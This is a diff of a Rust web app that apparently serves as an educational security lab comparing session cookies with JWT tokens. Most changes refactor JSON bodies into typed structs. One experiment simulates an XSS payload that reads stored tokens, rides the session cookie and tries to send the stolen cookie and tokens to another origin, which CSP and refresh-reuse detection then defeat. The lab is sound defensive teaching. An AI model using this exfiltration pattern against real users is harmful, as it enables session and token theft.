@@ -11,14 +11,15 @@ mod token_replay;
 use leptos::lazy;
 use leptos::prelude::*;
 use leptos::task::spawn_local;
-use serde_json::{Value, json};
+use serde_json::Value;
 
 use crate::api::{
-    ACCESS_TOKEN_KEY, DEMO_ACCOUNTS, ErrorCode, JwtMeResponse, REFRESH_TOKEN_KEY, RefreshListing,
-    SESSION_COOKIE, SessionListing, SessionResponse, TokenResponse,
+    ACCESS_TOKEN_KEY, CartRequest, DEMO_ACCOUNTS, ErrorCode, JwtMeResponse, LoginRequest, NoFields,
+    REFRESH_TOKEN_KEY, RefreshListing, RefreshRequest, RequestBody, SESSION_COOKIE, SessionListing,
+    SessionResponse, TokenResponse,
 };
 use crate::browser::{now_ms, storage};
-use crate::client::{self, Exchange, Method};
+use crate::client::{self, Body, Exchange, Method};
 use crate::comparison::VisitFigures;
 use crate::i18n::{ExperimentTexts, LabTexts, Lang, fill_named};
 use crate::server_holds::ServerChanged;
@@ -138,16 +139,23 @@ pub(crate) fn line(
     line_of(ok, label, detail)
 }
 
-pub(crate) fn alice() -> Value {
-    DEMO_ACCOUNTS[0].login_json()
+pub(crate) fn alice() -> LoginRequest {
+    DEMO_ACCOUNTS[0].login()
+}
+
+/// The body of a refresh or a token logout.
+pub(crate) fn refresh_request(token: &str) -> RefreshRequest {
+    RefreshRequest {
+        refresh_token: token.to_owned(),
+    }
 }
 
 pub(crate) async fn get(path: &str, bearer: Option<&str>) -> Exchange {
     client::send(Method::Get, path, None, bearer.map(str::to_owned)).await
 }
 
-pub(crate) async fn post(path: &str, body: Value) -> Exchange {
-    client::send(Method::Post, path, Some(body), None).await
+pub(crate) async fn post(path: &str, body: &impl RequestBody) -> Exchange {
+    client::send(Method::Post, path, Some(Body::of(body)), None).await
 }
 
 pub(crate) fn status(exchange: &Exchange) -> String {
@@ -166,7 +174,7 @@ pub(crate) fn status(exchange: &Exchange) -> String {
 
 /// A token login; the tokens as answered.
 pub(crate) async fn token_login() -> (Exchange, String, String) {
-    let exchange = post("/api/jwt/login", alice()).await;
+    let exchange = post("/api/jwt/login", &alice()).await;
     let (access, refresh) = exchange
         .json::<TokenResponse>()
         .map(|tokens| (tokens.access_token, tokens.refresh_token))
@@ -192,7 +200,7 @@ fn store_ops(exchange: &Exchange) -> Vec<(String, String)> {
 #[lazy]
 async fn store_rows() -> Vec<Line> {
     // Matched by id rather than by counting, so other visitors' logins cannot blur it.
-    let session_login = post("/api/session/login", alice()).await;
+    let session_login = post("/api/session/login", &alice()).await;
     let session_id = session_login
         .json::<SessionResponse>()
         .map(|answer| answer.session.id)
@@ -248,7 +256,7 @@ async fn store_rows() -> Vec<Line> {
 
 #[lazy]
 async fn who_attaches() -> Vec<Line> {
-    post("/api/session/login", alice()).await;
+    post("/api/session/login", &alice()).await;
     let (_, access, _) = token_login().await;
     let session_me = get("/api/session/me", None).await;
     let cookie_sent = session_me
@@ -269,6 +277,14 @@ async fn who_attaches() -> Vec<Line> {
 }
 
 // --- 3. An XSS payload: what it can read, what it can ride, what the CSP stops -------------
+
+/// What experiment 3's payload tries to send away (to a site of its own, not to this API).
+#[derive(serde::Serialize)]
+struct Loot<'a> {
+    cookie: &'a str,
+    access: &'a str,
+    refresh: &'a str,
+}
 
 /// The address the payload sends its loot to: another origin, which the page's
 /// `connect-src 'self'` forbids.
@@ -298,7 +314,7 @@ const PAYLOAD_CART_ITEM: &str = "added by the XSS payload";
 async fn xss() -> Vec<Line> {
     // The victim: logged in on both columns, as this very page keeps it (the column's
     // cookie and tokens are these).
-    post("/api/session/login", alice()).await;
+    post("/api/session/login", &alice()).await;
     let (_, access, refresh) = token_login().await;
     storage::save(ACCESS_TOKEN_KEY, &access);
     storage::save(REFRESH_TOKEN_KEY, &refresh);
@@ -309,7 +325,13 @@ async fn xss() -> Vec<Line> {
     let stolen_refresh = storage::load(REFRESH_TOKEN_KEY).unwrap_or_default();
 
     // 2. It rides the cookie it cannot read: the browser attaches it to the page's request.
-    let ridden = post("/api/session/cart", json!({"item": PAYLOAD_CART_ITEM})).await;
+    let ridden = post(
+        "/api/session/cart",
+        &CartRequest {
+            item: PAYLOAD_CART_ITEM.to_owned(),
+        },
+    )
+    .await;
     let cookie_attached = ridden
         .traced("received")
         .iter()
@@ -319,8 +341,13 @@ async fn xss() -> Vec<Line> {
         .is_some_and(|answer| answer.cart.iter().any(|item| item == PAYLOAD_CART_ITEM));
 
     // 3. It sends the loot away; the page's CSP has the last word.
-    let loot = json!({"cookie": stolen_cookie, "access": stolen_access, "refresh": stolen_refresh});
-    let exfiltration = crate::browser::try_exfiltration(EXFILTRATION_URL, loot.to_string()).await;
+    let loot = Loot {
+        cookie: &stolen_cookie,
+        access: &stolen_access,
+        refresh: &stolen_refresh,
+    };
+    let loot = serde_json::to_string(&loot).unwrap_or_default();
+    let exfiltration = crate::browser::try_exfiltration(EXFILTRATION_URL, loot).await;
 
     // 4. The attacker, elsewhere (no cookies of this origin): the stolen refresh token mints
     // a fresh pair, and the fresh access token works.
@@ -330,7 +357,7 @@ async fn xss() -> Vec<Line> {
     let minted = stranger(
         Method::Post,
         "/api/jwt/refresh",
-        Some(json!({"refresh_token": stolen_refresh})),
+        Some(Body::of(&refresh_request(&stolen_refresh))),
         None,
     )
     .await;
@@ -350,11 +377,11 @@ async fn xss() -> Vec<Line> {
 
     // 5. The victim's client refreshes with the token it holds, which the attacker spent:
     // reuse detection revokes the family, and the attacker's new token dies with it.
-    let victim_refresh = post("/api/jwt/refresh", json!({"refresh_token": refresh})).await;
+    let victim_refresh = post("/api/jwt/refresh", &refresh_request(&refresh)).await;
     let attacker_again = stranger(
         Method::Post,
         "/api/jwt/refresh",
-        Some(json!({"refresh_token": attacker_refresh})),
+        Some(Body::of(&refresh_request(&attacker_refresh))),
         None,
     )
     .await;
@@ -425,10 +452,10 @@ async fn xss() -> Vec<Line> {
 
 #[lazy]
 async fn replay_cookie(figures: VisitFigures) -> Vec<Line> {
-    post("/api/session/login", alice()).await;
+    post("/api/session/login", &alice()).await;
     let before = get("/api/session/me", None).await;
     // The record goes; the browser keeps its cookie, as a copy taken before logout would.
-    let logout = post("/api/session/logout?keep_cookie=true", json!({})).await;
+    let logout = post("/api/session/logout?keep_cookie=true", &NoFields {}).await;
     let logged_out_at = now_ms();
     let replay = get("/api/session/me", None).await;
     // `invalid_session`, not `no_session`: the cookie was sent, and refused.
@@ -439,7 +466,7 @@ async fn replay_cookie(figures: VisitFigures) -> Vec<Line> {
             .set(Some(now_ms() - logged_out_at));
     }
     // Tidy up: a real logout, so the browser forgets the dead cookie.
-    post("/api/session/logout", json!({})).await;
+    post("/api/session/logout", &NoFields {}).await;
     vec![
         line(before.ok(), |t| t.e4_before, status(&before)),
         line(logout.ok(), |t| t.e4_logout, status(&logout)),
@@ -451,7 +478,10 @@ async fn replay_cookie(figures: VisitFigures) -> Vec<Line> {
 
 #[lazy]
 async fn refresh_rules() -> Vec<Line> {
-    let refresh = |token: &str| post("/api/jwt/refresh", json!({"refresh_token": token}));
+    let refresh = |token: &str| {
+        let request = refresh_request(token);
+        async move { post("/api/jwt/refresh", &request).await }
+    };
     let (_, _, first) = token_login().await;
     let rotated = refresh(&first).await;
     let second = rotated
@@ -461,7 +491,7 @@ async fn refresh_rules() -> Vec<Line> {
     let reuse = refresh(&first).await;
     let newest = refresh(&second).await;
     let (_, _, other) = token_login().await;
-    post("/api/jwt/logout", json!({"refresh_token": other})).await;
+    post("/api/jwt/logout", &refresh_request(&other)).await;
     let after_logout = refresh(&other).await;
     vec![
         line(rotated.ok(), |t| t.e6_rotate, status(&rotated)),
@@ -532,7 +562,7 @@ async fn tamper() -> Vec<Line> {
 /// instead: the lesson experiment 3 measures, in a short table.
 #[component]
 fn XssTruths() -> impl IntoView {
-    let lang = expect_context::<RwSignal<Lang>>();
+    let lang = crate::i18n::use_lang();
     let texts = move || lang.get().experiment_texts();
     type Text = fn(&ExperimentTexts) -> &'static str;
     let rows: [(Text, Text, Text); 3] = [
@@ -627,7 +657,7 @@ pub(crate) fn Card(
     wide: bool,
     children: Children,
 ) -> impl IntoView {
-    let lang = expect_context::<RwSignal<Lang>>();
+    let lang = crate::i18n::use_lang();
     let texts = move || lang.get().experiment_texts();
     let heading_id = format!("experiment-{number}-title");
     let labelled_by = heading_id.clone();
@@ -648,7 +678,7 @@ pub(crate) fn RunButton(
     running: RwSignal<bool>,
     on_run: impl Fn() + 'static,
 ) -> impl IntoView {
-    let lang = expect_context::<RwSignal<Lang>>();
+    let lang = crate::i18n::use_lang();
     let texts = move || lang.get().experiment_texts();
     let name = move || fill_named(texts().run_experiment, &[("number", number.to_string())]);
     view! {
@@ -663,7 +693,7 @@ pub(crate) fn ResultLines<T: LineTexts>(
     lines: RwSignal<Option<Vec<Line<T>>>>,
     test_id: String,
 ) -> impl IntoView {
-    let lang = expect_context::<RwSignal<Lang>>();
+    let lang = crate::i18n::use_lang();
     let texts = move || T::of(lang.get());
     view! {
         // The status wraps the list: a list with a role of its own is no list, and its items
@@ -710,7 +740,7 @@ macro_rules! boxed {
 
 #[component]
 pub fn Experiments() -> AnyView {
-    let lang = expect_context::<RwSignal<Lang>>();
+    let lang = crate::i18n::use_lang();
     let texts = move || lang.get().experiment_texts();
     view! {
         <section class="experiments" aria-labelledby="experiments-title">
